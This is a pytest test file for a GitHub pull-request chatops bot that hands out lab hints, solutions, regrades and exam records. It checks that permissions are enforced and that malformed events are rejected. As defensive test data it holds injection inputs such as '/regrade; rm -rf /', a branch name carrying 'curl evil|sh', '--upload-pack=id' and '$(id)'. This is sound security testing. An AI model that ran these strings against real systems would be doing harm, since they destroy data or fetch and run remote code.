"""A comment that is a command is carried out for those who may, once, and answered with a line or a reaction."""

import json
from datetime import UTC, datetime, timedelta

import pytest
from fake_github import REPO
from github_examples import HEAD, parcel

from grading.delivery.github import memory as memories
from grading.delivery.github.chatops import Outcomes, answer
from grading.delivery.github.event import CommentEvent, EventError, PullEvent, read
from grading.delivery.github.review import review

AUTHOR, STRANGER, MAINTAINER = 7, 8, 9
NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)


def comment(body: str, user: int = AUTHOR, number: int = 500, association: str | None = None, **issue) -> CommentEvent:
    known = {AUTHOR: "CONTRIBUTOR", STRANGER: "NONE", MAINTAINER: "MEMBER"}
    given = {"number": 7, "state": "open", "user": {"id": AUTHOR, "login": "user7"}, "pull_request": {}} | issue
    return CommentEvent.model_validate(
        {
            "action": "created",
            "repository": {"full_name": REPO},
            "issue": given,
            "comment": {
                "id": number,
                "body": body,
                "user": {"id": user, "login": f"user{user}"},
                "author_association": association or known[user],
            },
        }
    )


@pytest.fixture
def desk(tiny, lab, forge, github, pull):
    """desk(body, user, …) -> Outcomes, on a pull request that failed once on topic `sum`."""
    github.world.permissions["user9"] = "write"
    review(tiny, lab, forge, pull, parcel())

    def ask(body: str, user: int = AUTHOR, now: datetime = NOW, **more) -> Outcomes:
        return answer(tiny, forge, comment(body, user, **more), now)

    return ask


def reply(github) -> str:
    return github.world.comments[-1]["body"]


def memory(github) -> memories.Memory:
    return memories.parse(github.world.stickies()[0]["body"])


def passes(tiny, lab, forge, pull):
    review(tiny, lab, forge, pull, parcel("PASS"))


def test_a_hint_is_one_level_more_than_was_earned(desk, github):
    assert desk("/hint").reaction == "+1"
    assert reply(github) == "<!-- labs:reply 500 -->\n**Hint 2 of 3** (sum)\n\nAdd x to x."
    assert memory(github).hints == {"sum": 2}
    desk("/hint sum", number=501)
    assert reply(github).endswith("**Hint 3 of 3** (sum)\n\nx + x.")
    desk("/hint zero", number=502)
    assert reply(github).endswith("**Hint 1 of 3** (zero)\n\nZero?")


def test_a_command_is_answered_once(desk, github):
    desk("/help")
    desk("/help")
    assert len(github.world.comments) == 2  # the verdict and one answer
    assert github.world.reactions == [(500, "+1")]


@pytest.mark.parametrize(
    "body",
    [
        "/regrade; rm -rf /",
        "/regrade $(id)",
        "/hint ../../x",
        "/hint " + "x" * 60_000,
        "/solution now",
        "/exam",
        "/quit",
    ],
)
def test_what_is_no_command_gets_the_usage_and_nothing_of_its_own(desk, github, body):
    assert desk(body).reaction == "confused"
    assert body.partition(" ")[2][:20] not in reply(github) or not body.partition(" ")[2]
    assert len(reply(github)) < 400
    assert github.world.dispatches == []


def test_unknown_topic_names_those_there_are(desk, github):
    assert desk("/hint nothing").reaction == "-1"
    assert reply(github).endswith("Which topic? l01 has hints on `sum`, `zero`.")


@pytest.mark.parametrize("body", ["/hint", "/solution", "/regrade", "/exam start", "/exam pass", "/help"])
def test_strangers_may_nothing(desk, github, body):
    assert desk(body, STRANGER).reaction == "-1"
    assert "Only the author" in reply(github)
    assert not any("permission" in path for _, path in github.requests)  # refused early, by the association


def test_association_alone_gives_no_right(desk, github):
    github.world.permissions["user8"] = "read"
    assert desk("/exam pass", STRANGER, association="OWNER").reaction == "-1"


def test_a_renamed_author_is_still_the_author_and_a_taken_login_is_not(desk, github):
    github.world.pulls[7]["user"]["login"] = "newname"
    assert desk("/help").reaction == "+1"
    event = comment("/help", STRANGER).model_dump()
    event["comment"]["user"]["login"] = "newname"
    assert desk("/help", STRANGER).reaction == "-1"


def test_ordinary_comments_issues_and_edits_are_left_alone(desk, tiny, forge, github):
    before = list(github.requests)
    assert desk("I think /hint is nice") == Outcomes()
    assert desk("/hint", pull_request=None) == Outcomes()
    edited = comment("/hint").model_copy(update={"action": "edited"})
    assert answer(tiny, forge, edited, NOW) == Outcomes()
    assert github.requests == before


def test_the_solution_is_earned(desk, tiny, lab, forge, github, pull):
    assert desk("/solution").reaction == "-1"
    assert reply(github).endswith("After a PASS or 4 more attempts.")
    passes(tiny, lab, forge, pull)
    assert desk("/solution", number=501).reaction == "+1"
    assert "+    total += x" in reply(github)
    assert memory(github).solution == "2026-03-01T12:00:00Z"


def test_a_closed_pull_request_is_left_alone(desk, github):
    github.world.pulls[7]["state"] = "closed"
    assert desk("/solution").reaction == "-1"
    assert "closed" in reply(github)


def test_a_pull_request_against_main_is_no_labs(desk, github):
    github.world.pulls[7]["base"]["ref"] = "main"
    assert desk("/regrade").reaction == "-1"


def test_regrade_is_left_to_the_job_that_may_and_cools_down(desk, github):
    assert desk("/regrade") == Outcomes("rocket", "", 7)
    assert github.world.dispatches == []
    for number in range(501, 505):
        assert desk("/regrade", number=number).reaction == "-1"
    assert desk("/regrade", number=510, now=NOW + timedelta(minutes=6)).regrade == 7


def test_regrade_works_before_there_is_a_verdict(desk, github):
    github.world.comments.clear()
    github.world.checks.clear()
    assert desk("/regrade").regrade == 7


def test_the_exam_is_about_a_patch_that_passed(desk, github):
    assert desk("/exam start").reaction == "-1"
    assert desk("/exam pass", MAINTAINER, number=501).reaction == "-1"
    assert "this commit has no PASS" in reply(github)


def test_the_exam_starts_with_the_questions_and_no_answers(desk, tiny, lab, forge, github, pull):
    passes(tiny, lab, forge, pull)
    assert desk("/exam start").reaction == "+1"
    assert reply(github).count("\n## ") == 5
    assert "SECRET" not in reply(github)


def test_a_maintainer_records_the_exam_on_the_commit(desk, tiny, lab, forge, github, pull):
    passes(tiny, lab, forge, pull)
    assert desk("/exam fail knows no [adjoint](x)", MAINTAINER).reaction == "+1"
    assert memory(github).exam.passed is False
    assert "seal: exam" not in github.world.labels[7]
    assert desk("/exam pass well done", MAINTAINER, number=501).reaction == "hooray"
    outcome = memory(github).exam
    assert (outcome.passed, outcome.examiner, outcome.when, outcome.commit, outcome.note) == (
        True,
        "user9",
        "2026-03-01T12:00:00Z",
        HEAD,
        "well done",
    )
    assert "🟢 Exam seal" in github.world.stickies()[0]["body"]
    assert "seal: exam" in github.world.labels[7]
    (check,) = [one for one in github.world.checks if one["name"] == "labs / l01 exam"]
    assert (check["head_sha"], check["conclusion"]) == (HEAD, "success")
    assert not any(method == "PUT" for method, _ in github.requests)  # nothing is merged


@pytest.mark.parametrize("user", [AUTHOR, STRANGER])
def test_nobody_else_records_it(desk, tiny, lab, forge, github, pull, user):
    passes(tiny, lab, forge, pull)
    github.world.permissions["user7"] = "admin"  # an author with write access does not examine himself
    assert desk("/exam pass", user).reaction == "-1"
    assert memory(github).exam is None


def test_an_exam_does_not_carry_over_to_another_commit(desk, tiny, lab, forge, github, pull):
    passes(tiny, lab, forge, pull)
    github.world.pull(7, "d" * 40, base="lab/l01")
    assert desk("/exam pass", MAINTAINER).reaction == "-1"


EVENT = {
    "action": "opened",
    "repository": {"full_name": REPO, "default_branch": "main"},
    "pull_request": {
        "number": 7,
        "state": "open",
        "head": {"sha": HEAD, "ref": 'a";curl evil|sh;#', "repo": None},
        "base": {"ref": "lab/l05"},
        "user": {"id": 7, "login": "ada"},
    },
}


def written(tmp_path, event) -> PullEvent:
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event))
    return read(path, PullEvent)


def test_events_are_read_with_their_nulls(tmp_path):
    told = written(tmp_path, EVENT)
    assert (told.number, told.pull_request.lab_id, told.pull_request.head.sha) == (7, "l05", HEAD)
    assert written(tmp_path, {"repository": EVENT["repository"], "inputs": {"pr": "7"}}).number == 7


@pytest.mark.parametrize(
    "base", ["main", "lab/l05/../../x", "lab/L05", "lab/l5", "lab/l05\x00", "xlab/l05", "lab/l055"]
)
def test_only_a_lab_branch_names_a_lab(tmp_path, base):
    event = json.loads(json.dumps(EVENT))
    event["pull_request"]["base"]["ref"] = base
    assert written(tmp_path, event).pull_request.lab_id is None


@pytest.mark.parametrize(
    "event",
    [
        {},
        [],
        {"repository": {"full_name": "../../etc"}},
        {"repository": EVENT["repository"], "inputs": {"pr": "7; id"}},
        EVENT | {"pull_request": EVENT["pull_request"] | {"head": {"sha": "--upload-pack=id"}}},
        EVENT | {"pull_request": EVENT["pull_request"] | {"user": {"id": 1, "login": "a\n::error::"}}},
    ],
)
def test_an_event_of_another_form_is_one_line(tmp_path, event):
    with pytest.raises(EventError) as caught:
        written(tmp_path, event)
    assert "\n" not in str(caught.value)
